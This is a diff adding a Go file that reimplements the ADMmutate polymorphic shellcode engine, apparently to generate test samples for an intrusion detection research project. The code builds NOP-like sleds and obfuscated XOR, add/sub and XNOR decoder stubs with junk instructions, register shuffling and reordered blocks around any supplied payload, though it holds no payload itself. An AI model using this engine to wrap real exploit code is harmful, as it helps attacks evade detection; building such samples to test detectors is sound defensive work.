@@ -1,0 +1,419 @@
+package polymorph
+
+import (
+	"errors"
+	"fmt"
+	"math/rand"
+
+	"semnids/internal/x86"
+)
+
+// ADMmutate is our reconstruction of K2's ADMmutate 0.8.4 engine: it
+// wraps a payload in a variant NOP-like sled and an obfuscated decoder
+// employing junk insertion, equivalent-instruction substitution,
+// register reassignment and out-of-order code sequencing, choosing
+// between the classic XOR loop and the alternate mov/or/and/not
+// decoding scheme.
+type ADMmutate struct {
+	rng *rand.Rand
+
+	// AltProb is the probability of selecting the alternate
+	// (mov/or/and/not) decoding scheme. The default 0.32 reproduces
+	// the paper's Table 2: an xor-only template set detected 68 of
+	// 100 samples.
+	AltProb float64
+
+	// ForceScheme pins the scheme for targeted tests (nil = random).
+	ForceScheme *Scheme
+
+	// MaxSled bounds the sled length (minimum 8).
+	MaxSled int
+
+	// OutOfOrder enables block shuffling with jmp chains.
+	OutOfOrder bool
+}
+
+// NewADMmutate returns an engine seeded for reproducible generation.
+func NewADMmutate(seed int64) *ADMmutate {
+	return &ADMmutate{
+		rng:        rand.New(rand.NewSource(seed)),
+		AltProb:    0.32,
+		MaxSled:    48,
+		OutOfOrder: true,
+	}
+}
+
+// Encode produces one polymorphic sample wrapping payload.
+func (m *ADMmutate) Encode(payload []byte) ([]byte, Meta, error) {
+	if len(payload) == 0 {
+		return nil, Meta{}, errors.New("polymorph: empty payload")
+	}
+	if len(payload) > 0xffff {
+		return nil, Meta{}, errors.New("polymorph: payload too large")
+	}
+	scheme := SchemeXor
+	if m.ForceScheme != nil {
+		scheme = *m.ForceScheme
+	} else if m.rng.Float64() < m.AltProb {
+		scheme = SchemeXnor
+	}
+	switch scheme {
+	case SchemeXnor:
+		return m.encodeXnor(payload)
+	default:
+		return m.encodeXor(payload)
+	}
+}
+
+// block is a unit of decoder code for out-of-order emission.
+type block struct {
+	label string
+	emit  func(a *x86.Asm)
+}
+
+// emitBlocks writes blocks in a shuffled physical order, chaining the
+// logical order with near jmps. Control enters through the first
+// block's label (the decoder is reached via `call <label>`), so no
+// entry jump is needed.
+func emitBlocks(rng *rand.Rand, a *x86.Asm, blocks []block, shuffle bool) {
+	order := make([]int, len(blocks))
+	for i := range order {
+		order[i] = i
+	}
+	if shuffle && len(blocks) > 2 {
+		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
+	}
+	for _, bi := range order {
+		b := blocks[bi]
+		a.Label(b.label)
+		b.emit(a)
+		if bi+1 < len(blocks) {
+			a.Jmp(blocks[bi+1].label)
+		}
+	}
+}
+
+// emitCounter loads count into reg using a randomly chosen equivalent
+// construction.
+func emitCounter(rng *rand.Rand, a *x86.Asm, reg x86.Reg, count int64) {
+	switch rng.Intn(4) {
+	case 0:
+		a.MovRI(reg, count)
+	case 1:
+		a.XorRR(reg, reg).AddRI(reg, count)
+	case 2:
+		a.PushI(count).PopR(reg)
+	case 3:
+		mask := int64(int32(rng.Uint32()))
+		a.MovRI(reg, count^mask).I(x86.XOR, x86.RegOp(reg), x86.ImmOp(mask))
+	}
+}
+
+// emitKey loads a byte key into the low byte of fam using equivalent
+// constructions that require constant folding to resolve.
+func emitKey(rng *rand.Rand, a *x86.Asm, fam x86.Reg, key byte) {
+	switch rng.Intn(3) {
+	case 0:
+		a.MovRI(fam, int64(key))
+	case 1:
+		base := int64(int32(rng.Uint32()))
+		diff := (int64(key) - base) & 0xffffffff
+		a.MovRI(fam, base).AddRI(fam, int64(int32(uint32(diff))))
+	case 2:
+		mask := int64(int32(rng.Uint32()))
+		a.MovRI(fam, int64(key)^mask).I(x86.XOR, x86.RegOp(fam), x86.ImmOp(mask))
+	}
+}
+
+// emitAdvance advances ptr by one byte using a random equivalent form.
+func emitAdvance(rng *rand.Rand, a *x86.Asm, ptr x86.Reg) {
+	switch rng.Intn(4) {
+	case 0:
+		a.IncR(ptr)
+	case 1:
+		a.AddRI(ptr, 1)
+	case 2:
+		a.SubRI(ptr, -1)
+	case 3:
+		a.I(x86.LEA, x86.RegOp(ptr), x86.MemOp(x86.MemRef{Base: ptr, Disp: 1, Scale: 1}))
+	}
+}
+
+// xorTransform describes the chosen equivalent substitution for the
+// memory transform of the xor scheme.
+type xorTransform struct {
+	name   string
+	keyReg x86.Reg // RegNone when the key is an immediate
+	key    byte
+	// encode maps a payload byte to its encoded form so the decoder's
+	// transform restores the original.
+	encode func(b byte) byte
+	emit   func(a *x86.Asm, ptr x86.Reg)
+}
+
+func (m *ADMmutate) pickXorTransform(keyFams []x86.Reg) xorTransform {
+	key := byte(m.rng.Intn(255) + 1) // non-zero
+	switch m.rng.Intn(4) {
+	case 0: // xor [ptr], imm
+		return xorTransform{
+			name: "xor-imm", key: key,
+			encode: func(b byte) byte { return b ^ key },
+			emit: func(a *x86.Asm, ptr x86.Reg) {
+				a.I(x86.XOR, mem8(ptr), x86.ImmOp(int64(int8(key))))
+			},
+		}
+	case 1: // xor [ptr], reg (key folded into the register)
+		fam := keyFams[m.rng.Intn(len(keyFams))]
+		return xorTransform{
+			name: "xor-reg", key: key, keyReg: fam,
+			encode: func(b byte) byte { return b ^ key },
+			emit: func(a *x86.Asm, ptr x86.Reg) {
+				a.I(x86.XOR, mem8(ptr), x86.RegOp(low8(fam)))
+			},
+		}
+	case 2: // add [ptr], k  — encode by subtracting
+		return xorTransform{
+			name: "add-imm", key: key,
+			encode: func(b byte) byte { return b - key },
+			emit: func(a *x86.Asm, ptr x86.Reg) {
+				a.I(x86.ADD, mem8(ptr), x86.ImmOp(int64(int8(key))))
+			},
+		}
+	default: // sub [ptr], k — encode by adding
+		return xorTransform{
+			name: "sub-imm", key: key,
+			encode: func(b byte) byte { return b + key },
+			emit: func(a *x86.Asm, ptr x86.Reg) {
+				a.I(x86.SUB, mem8(ptr), x86.ImmOp(int64(int8(key))))
+			},
+		}
+	}
+}
+
+// encodeXor builds a sample around the classic xor-loop decoder.
+func (m *ADMmutate) encodeXor(payload []byte) ([]byte, Meta, error) {
+	rng := m.rng
+	ooo := m.OutOfOrder && rng.Intn(2) == 0
+
+	// Register assignment: pointer, counter, then junk scratch.
+	ptrPool := []x86.Reg{x86.ESI, x86.EDI, x86.EBX, x86.EDX, x86.EBP}
+	ptr := ptrPool[rng.Intn(len(ptrPool))]
+
+	useLoop := !ooo && rng.Intn(2) == 0
+	cnt := x86.ECX
+	if !useLoop {
+		cntPool := remove([]x86.Reg{x86.ECX, x86.EAX, x86.EBX, x86.EDX}, ptr)
+		cnt = cntPool[rng.Intn(len(cntPool))]
+	}
+
+	keyFams := remove(remove([]x86.Reg{x86.EAX, x86.EBX, x86.ECX, x86.EDX}, ptr), cnt)
+	tf := m.pickXorTransform(keyFams)
+
+	scratch := famPool
+	for _, used := range []x86.Reg{ptr, cnt, tf.keyReg} {
+		scratch = remove(scratch, used)
+	}
+	junk := &junkCtx{rng: rng, scratch: scratch}
+
+	sledLen := 8 + rng.Intn(m.MaxSled-7)
+	a := x86.NewAsm()
+	genSled(rng, a, sledLen)
+
+	blocks := []block{
+		{"setup", func(a *x86.Asm) {
+			a.PopR(ptr).PushR(ptr)
+			junk.emitJunk(a, 2)
+			emitCounter(rng, a, cnt, int64(len(payload)))
+			if tf.keyReg != x86.RegNone {
+				junk.emitJunk(a, 2)
+				emitKey(rng, a, tf.keyReg, tf.key)
+			}
+		}},
+		{"xform", func(a *x86.Asm) {
+			junk.emitJunk(a, 2)
+			a.Label("loop")
+			tf.emit(a, ptr)
+			junk.emitJunk(a, 2)
+		}},
+		{"step", func(a *x86.Asm) {
+			emitAdvance(rng, a, ptr)
+			junk.emitJunk(a, 2)
+		}},
+		{"back", func(a *x86.Asm) {
+			switch {
+			case useLoop:
+				a.Loop("loop")
+			case ooo:
+				a.DecR(cnt)
+				a.JccNear(x86.CondNE, "loop")
+			default:
+				a.DecR(cnt)
+				a.JccShort(x86.CondNE, "loop")
+			}
+			a.I(x86.RET)
+		}},
+	}
+
+	a.Jmp("call")
+	emitBlocks(rng, a, blocks, ooo)
+	a.Label("call").Call("setup")
+
+	head, err := a.Bytes()
+	if err != nil {
+		return nil, Meta{}, fmt.Errorf("polymorph: %w", err)
+	}
+	payloadOff := len(head)
+
+	out := make([]byte, 0, len(head)+len(payload))
+	out = append(out, head...)
+	for _, b := range payload {
+		out = append(out, tf.encode(b))
+	}
+	meta := Meta{
+		Scheme:     SchemeXor,
+		Key:        tf.key,
+		Transform:  tf.name,
+		SledLen:    sledLen,
+		PayloadOff: payloadOff,
+		PayloadLen: len(payload),
+	}
+	return out, meta, nil
+}
+
+// encodeXnor builds a sample around the alternate mov/or/and/not
+// decoder (an XNOR cipher):
+//
+//	mov  r1, [ptr]
+//	mov  r2, r1
+//	not  r2
+//	and  r1, K
+//	and  r2, ~K
+//	or   r1, r2
+//	mov  [ptr], r1
+//
+// which computes ~(b ^ K) — an involution, so encoding applies the
+// same function.
+func (m *ADMmutate) encodeXnor(payload []byte) ([]byte, Meta, error) {
+	rng := m.rng
+	ooo := m.OutOfOrder && rng.Intn(2) == 0
+
+	ptrPool := []x86.Reg{x86.ESI, x86.EDI, x86.EBP}
+	ptr := ptrPool[rng.Intn(len(ptrPool))]
+
+	useLoop := !ooo && rng.Intn(2) == 0
+	regPool := []x86.Reg{x86.EAX, x86.EBX, x86.ECX, x86.EDX}
+	cnt := x86.ECX
+	if !useLoop {
+		cnt = regPool[rng.Intn(len(regPool))]
+	}
+	pairPool := remove(regPool, cnt)
+	r1 := pick(rng, &pairPool)
+	r2 := pick(rng, &pairPool)
+
+	scratch := famPool
+	for _, used := range []x86.Reg{ptr, cnt, r1, r2} {
+		scratch = remove(scratch, used)
+	}
+	junk := &junkCtx{rng: rng, scratch: scratch}
+
+	key := byte(rng.Intn(256))
+	xnor := func(b byte) byte { return ^(b ^ key) }
+
+	sledLen := 8 + rng.Intn(m.MaxSled-7)
+	a := x86.NewAsm()
+	genSled(rng, a, sledLen)
+
+	blocks := []block{
+		{"setup", func(a *x86.Asm) {
+			a.PopR(ptr).PushR(ptr)
+			junk.emitJunk(a, 2)
+			emitCounter(rng, a, cnt, int64(len(payload)))
+		}},
+		{"load", func(a *x86.Asm) {
+			a.Label("loop")
+			a.I(x86.MOV, x86.RegOp(low8(r1)), mem8(ptr))
+			junk.emitJunk(a, 1)
+			a.I(x86.MOV, x86.RegOp(low8(r2)), x86.RegOp(low8(r1)))
+			a.I(x86.NOT, x86.RegOp(low8(r2)))
+		}},
+		{"mask", func(a *x86.Asm) {
+			a.I(x86.AND, x86.RegOp(low8(r1)), x86.ImmOp(int64(int8(key))))
+			junk.emitJunk(a, 1)
+			a.I(x86.AND, x86.RegOp(low8(r2)), x86.ImmOp(int64(int8(^key))))
+			a.I(x86.OR, x86.RegOp(low8(r1)), x86.RegOp(low8(r2)))
+		}},
+		{"store", func(a *x86.Asm) {
+			a.I(x86.MOV, mem8(ptr), x86.RegOp(low8(r1)))
+			junk.emitJunk(a, 2)
+			emitAdvance(rng, a, ptr)
+		}},
+		{"back", func(a *x86.Asm) {
+			switch {
+			case useLoop:
+				a.Loop("loop")
+			case ooo:
+				a.DecR(cnt)
+				a.JccNear(x86.CondNE, "loop")
+			default:
+				a.DecR(cnt)
+				a.JccShort(x86.CondNE, "loop")
+			}
+			a.I(x86.RET)
+		}},
+	}
+
+	a.Jmp("call")
+	emitBlocks(rng, a, blocks, ooo)
+	a.Label("call").Call("setup")
+
+	head, err := a.Bytes()
+	if err != nil {
+		return nil, Meta{}, fmt.Errorf("polymorph: %w", err)
+	}
+	out := make([]byte, 0, len(head)+len(payload))
+	out = append(out, head...)
+	for _, b := range payload {
+		out = append(out, xnor(b))
+	}
+	meta := Meta{
+		Scheme:     SchemeXnor,
+		Key:        key,
+		Transform:  "xnor",
+		SledLen:    sledLen,
+		PayloadOff: len(head),
+		PayloadLen: len(payload),
+	}
+	return out, meta, nil
+}
+
+// DecodePayload applies the inverse transform described by meta to the
+// payload region of a generated sample, returning the original
+// payload. Used by tests to prove generated samples are well-formed.
+func DecodePayload(sample []byte, meta Meta) ([]byte, error) {
+	if meta.PayloadOff < 0 || meta.PayloadOff+meta.PayloadLen > len(sample) {
+		return nil, errors.New("polymorph: meta out of range")
+	}
+	enc := sample[meta.PayloadOff : meta.PayloadOff+meta.PayloadLen]
+	out := make([]byte, len(enc))
+	switch meta.Transform {
+	case "xor-imm", "xor-reg":
+		for i, b := range enc {
+			out[i] = b ^ meta.Key
+		}
+	case "add-imm": // decoder adds, so encoded = orig - key
+		for i, b := range enc {
+			out[i] = b + meta.Key
+		}
+	case "sub-imm":
+		for i, b := range enc {
+			out[i] = b - meta.Key
+		}
+	case "xnor":
+		for i, b := range enc {
+			out[i] = ^(b ^ meta.Key)
+		}
+	default:
+		return nil, fmt.Errorf("polymorph: unknown transform %q", meta.Transform)
+	}
+	return out, nil
+}
